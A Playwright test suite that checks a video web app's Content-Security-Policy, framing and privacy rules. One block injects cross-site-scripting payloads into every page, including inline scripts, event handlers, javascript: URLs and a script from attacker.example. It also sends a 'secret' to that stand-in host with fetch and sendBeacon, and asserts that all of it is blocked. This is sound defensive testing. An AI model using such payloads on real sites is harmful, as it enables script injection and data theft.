import { createServer, type Server } from "node:http";
import type { Browser, BrowserContext, Page } from "playwright";
import { afterAll, beforeAll, describe, expect, inject, test } from "vitest";
import { hasEnded } from "../../shared/job/job.ts";
import type { CreateJobResponse } from "../../shared/wire/api.ts";
import { EdgeClient } from "../../web/edge-client.ts";
import { launchBrowser } from "../../web/headless/browser.ts";
import { ContributorTab } from "../../web/headless/contributor-tab.ts";
import { follow, isInspected } from "../../web/headless/follow.ts";
import { OwnerTab } from "../../web/headless/owner-tab.ts";
import { fixture } from "../setup/media.ts";

// What the headers of the production build's pages allow to run, load and frame, in Chromium.

const serverUrl = inject("serverUrl");
const TIME_LIMIT = AbortSignal.timeout(280_000);
const quiet = (): void => {};

let browser: Browser;
let tab: OwnerTab;
let helper: ContributorTab;
let job: CreateJobResponse;
let joinUrl: string;
beforeAll(async () => {
  browser = await launchBrowser();
  // A source that has to be rewritten first, so that each kind of worker runs.
  const file = await fixture("flv-8s.flv");
  const options = { serverUrl, engine: "auto", slots: 1, ladder: "144:140" };
  tab = await OwnerTab.open(browser, options, quiet, async ({ page }) => watchPolicy(page));
  await tab.pick(file);
  expect((await follow(tab, TIME_LIMIT, quiet, isInspected)).phase).toBe("inspected");
  await tab.visibility("private");
  job = await tab.start();
  ({ joinUrl } = await tab.share(job));
  helper = await ContributorTab.open(browser, joinUrl, { slots: 1 }, quiet);
  await helper.start();
  const ended = await follow(tab, TIME_LIMIT, quiet, (state) => {
    return state.phase === "ready" ? state.pictures?.state === "done" : hasEnded(state.phase);
  });
  expect(ended.phase).toBe("ready");
  await tab.page.getByRole("heading", { name: "For you alone" }).waitFor();
});
afterAll(() => browser?.close());

interface Watched {
  violations: string[];
  attacked?: boolean;
}

/** Records all refusals by the page's policy from its start on. */
async function watchPolicy(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const watched = globalThis as unknown as Watched;
    watched.violations = [];
    addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
      watched.violations.push(`${effectiveDirective} ${blockedURI}`);
    });
  });
}

function violations(page: Page): Promise<string[]> {
  return page.evaluate(() => (globalThis as unknown as Watched).violations);
}

/** Refusals in Chromium's log, which includes those in workers. */
function refusals({ log }: { log: readonly string[] }): string[] {
  return log.filter((line) => /Content[- ]Security[- ]Policy|Permissions[- ]Policy/i.test(line));
}

/** Paths of the site's pages, as the video's owner sees them. */
function paths(): string[] {
  return [
    "/",
    "/videos",
    "/admin",
    `/watch/${job.jobId}`,
    `/watch/${job.jobId}?embed`,
    `/embed/${job.jobId}`,
    joinUrl.slice(serverUrl.length),
    "/api",
  ];
}

/** Whether other sites may frame the page. */
function isPlayerAlone(path: string): boolean {
  return path.endsWith("?embed") || path.startsWith("/embed");
}

async function ownerContext(): Promise<BrowserContext> {
  const context = await browser.newContext();
  await context.addInitScript(
    (owned) => localStorage.setItem("tributary.owned", owned),
    JSON.stringify({ [job.jobId]: job.ownerToken }),
  );
  return context;
}

test("a whole job, its helper's too, meets no refusal, and no worker does", async () => {
  expect(await violations(tab.page)).toEqual([]);
  expect(refusals(tab)).toEqual([]);
  expect(refusals(helper)).toEqual([]);
});

test("each page shows what it has, and meets no refusal", async () => {
  const context = await ownerContext();
  for (const path of paths()) {
    const page = await context.newPage();
    const log: string[] = [];
    page.on("console", (message) => log.push(message.text()));
    await watchPolicy(page);
    await page.goto(serverUrl + path);
    await page.waitForFunction(() => document.querySelector("#page")?.hasChildNodes());
    if (path === "/videos") await pictured(page, ".poster-frame img");
    if (/^\/(watch|embed)/.test(path)) await shown(page, "video");
    if (path === "/api")
      await page
        .getByRole("button", { name: /\/api\/jobs\s/ })
        .first()
        .waitFor();
    expect(await violations(page), path).toEqual([]);
    expect(refusals({ log }), path).toEqual([]);
    await page.close();
  }
  await context.close();
});

/** Expects a video element to have frames. */
async function shown(page: Page, selector: string): Promise<void> {
  const video = page.locator(selector).first();
  await video.waitFor({ state: "attached" });
  await expect
    .poll(() => video.evaluate((each) => (each as HTMLVideoElement).readyState))
    .toBeGreaterThan(1);
}

/** Expects an image to load. */
async function pictured(page: Page, selector: string): Promise<void> {
  const image = page.locator(selector).first();
  await expect
    .poll(() => image.evaluate((each) => (each as HTMLImageElement).naturalWidth))
    .toBeGreaterThan(0);
}

test("a private video is nowhere for a browser that did not make it", async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(job.watchUrl);
  await page.getByRole("alert").waitFor();
  expect(await page.locator("video").count()).toBe(0);
  await page.goto(`${serverUrl}/videos`);
  await page.getByText("This browser has made no video yet.").waitFor();
  expect(await page.locator(".video-card", { hasText: "flv-8s" }).count()).toBe(0);
  await context.close();
});

test("a private video opens by a link, and for its passphrase, in any browser", async () => {
  const client = new EdgeClient(serverUrl);
  const { jobId, ownerToken } = job;
  const context = await browser.newContext();
  const page = await context.newPage();
  await watchPolicy(page);
  const link = await client.linkVideo(jobId, ownerToken, { expiresInMinutes: 5 });
  for (const url of [link.watchUrl, link.embedUrl]) {
    await page.goto(url);
    await shown(page, "video");
  }
  await client.changeVideo(jobId, ownerToken, { passphrase: "seven blue herons" });
  await page.goto(link.watchUrl);
  await page.getByRole("heading", { name: "This link has ended" }).waitFor();
  await page.goto(`${serverUrl}/watch/${jobId}`);
  await page.getByLabel("Passphrase", { exact: true }).fill("seven grey herons");
  await page.keyboard.press("Enter");
  await page.getByText("That is not the passphrase.").waitFor();
  await page.getByLabel("Passphrase", { exact: true }).fill("seven blue herons");
  await page.keyboard.press("Enter");
  await shown(page, "video");
  expect(await violations(page)).toEqual([]);
  await client.changeVideo(jobId, ownerToken, { passphrase: null });
  await context.close();
});

describe("what was smuggled into a page", () => {
  const MARK = "globalThis.attacked = true";
  /** Markup that is put into the page's HTML: each way in which it could run a script. */
  const MARKUP = `<script>${MARK}</script>
    <img src="/none" onerror="${MARK}">
    <svg onload="${MARK}"></svg>
    <script src="data:text/javascript,${MARK}"></script>
    <script src="https://attacker.example/script.js"></script>
    <iframe srcdoc="<script>parent.${MARK}</script>"></iframe>
    <object data="data:text/html,<script>${MARK}</script>"></object>
    <base href="https://attacker.example/">`;

  test("does not run, in any page, and tells nobody outside", async () => {
    const context = await ownerContext();
    for (const path of paths()) {
      const page = await context.newPage();
      await watchPolicy(page);
      const outside: string[] = [];
      page.on("request", (request) => {
        if (new URL(request.url()).hostname.endsWith("attacker.example"))
          outside.push(request.url());
      });
      await page.route(serverUrl + path.split("#")[0], async (route) => {
        const response = await route.fetch();
        const body = (await response.text()).replace("<body>", `<body>${MARKUP}`);
        await route.fulfill({ response, body });
      });
      await page.goto(serverUrl + path);
      // The same through the DOM, after the page was loaded.
      await page.evaluate((mark) => {
        const image = document.createElement("img");
        const link = document.createElement("a");
        const script = document.createElement("script");
        link.href = `javascript:${mark}`;
        document.body.append(image, link, script);
        const ways = [
          () => image.setAttribute("onerror", mark),
          () => link.click(),
          () => script.append(mark),
          () => {
            script.textContent = mark;
          },
          () => {
            script.src = `data:text/javascript,${mark}`;
          },
          () => {
            document.body.append(document.createElement("div"));
            document.body.lastElementChild?.insertAdjacentHTML(
              "afterbegin",
              `<img src="/none" onerror="${mark}">`,
            );
          },
          () => setTimeout(mark),
          () => new Worker(`data:text/javascript,${mark}`),
        ];
        for (const way of ways) {
          try {
            way();
          } catch {
            // Refused at once.
          }
        }
        image.src = "/none";
        void fetch("https://attacker.example/?secret").catch(() => {});
        navigator.sendBeacon("https://attacker.example/", "secret");
      }, MARK);
      // Refused: scripts, event handlers, script URLs, an object, the base address, and requests to the other site.
      await expect
        .poll(async () => (await violations(page)).length, { message: path })
        .toBeGreaterThan(9);
      const refused = (await violations(page)).map((each) => each.split(" ")[0]);
      const kinds = ["script-src-elem", "script-src-attr", "base-uri", "object-src", "connect-src"];
      if (path !== "/api") kinds.push("require-trusted-types-for");
      expect(refused, path).toEqual(expect.arrayContaining(kinds));
      expect(await page.evaluate(() => "attacked" in globalThis), path).toBe(false);
      expect(
        outside.filter((url) => url.includes("secret")),
        path,
      ).toEqual([]);
      await page.close();
    }
    await context.close();
  });
});

describe("a page of another site", () => {
  let site: Server;
  let siteUrl: string;
  beforeAll(async () => {
    site = createServer((request, response) => {
      const framed = new URL(request.url ?? "", "http://site").searchParams.get("of") ?? "";
      response.writeHead(200, { "content-type": "text/html" });
      response.end(`<!doctype html><iframe src="${framed.replaceAll("&", "&amp;")}"></iframe>`);
    });
    await new Promise<void>((resolve) => site.listen(0, "127.0.0.1", resolve));
    const address = site.address();
    const port = typeof address === "object" && address !== null ? address.port : 0;
    siteUrl = `http://127.0.0.1:${port}`;
  });
  afterAll(() => site?.close());

  test("frames the player, and no other page", async () => {
    const page = await browser.newPage();
    for (const path of paths()) {
      const framed = `${serverUrl}${path}`;
      await page.goto(`${siteUrl}/?of=${encodeURIComponent(framed)}`);
      const frame = page.frames().find((each) => each !== page.mainFrame());
      // A refused frame shows the browser's own error page.
      const isShown = (await frame?.evaluate(() => document.querySelector("#page"))) !== null;
      expect(isShown, path).toBe(isPlayerAlone(path));
    }
    await page.close();
  });
});

describe("headers", () => {
  test("pages and scripts have one policy, but for who may frame it and what swagger-ui needs", async () => {
    const policies = new Map<string, string | null>();
    for (const path of [...paths(), "/watch", "/contribute", "/api-reference", "/favicon.svg"]) {
      const { headers } = await fetch(serverUrl + path.split("#")[0]);
      policies.set(path, headers.get("content-security-policy"));
      expect(Object.fromEntries(headers), path).toMatchObject({
        "cross-origin-opener-policy": "same-origin",
        "permissions-policy": expect.stringContaining("camera=()"),
        "referrer-policy": "same-origin",
        "x-content-type-options": "nosniff",
      });
    }
    const policy = policies.get("/") ?? "";
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).not.toMatch(/unsafe-inline|'unsafe-eval'|\*|http/);
    const trustedTypes = "; require-trusted-types-for 'script'; trusted-types default";
    expect(policy).toContain(trustedTypes);
    for (const [path, each] of policies) {
      const own = path.startsWith("/api") ? policy.replace(trustedTypes, "") : policy;
      // A page that may be framed encodes nothing, so it needs no WebAssembly.
      const framed = own
        .replace("frame-ancestors 'none'", "frame-ancestors *")
        .replace(" 'wasm-unsafe-eval'", "");
      expect(each, path).toBe(isPlayerAlone(path) ? framed : own);
    }
  });

  test("what is no page can never act as one", async () => {
    const own = { headers: { authorization: `Bearer ${job.ownerToken}` } };
    for (const path of [`/v/${job.jobId}/master.m3u8`, "/api/videos", "/api/nothing", "/v/none"]) {
      const { headers } = await fetch(serverUrl + path, own);
      expect(Object.fromEntries(headers), path).toMatchObject({
        "content-security-policy": "default-src 'none'; frame-ancestors 'none'",
        "x-content-type-options": "nosniff",
      });
    }
  });
});
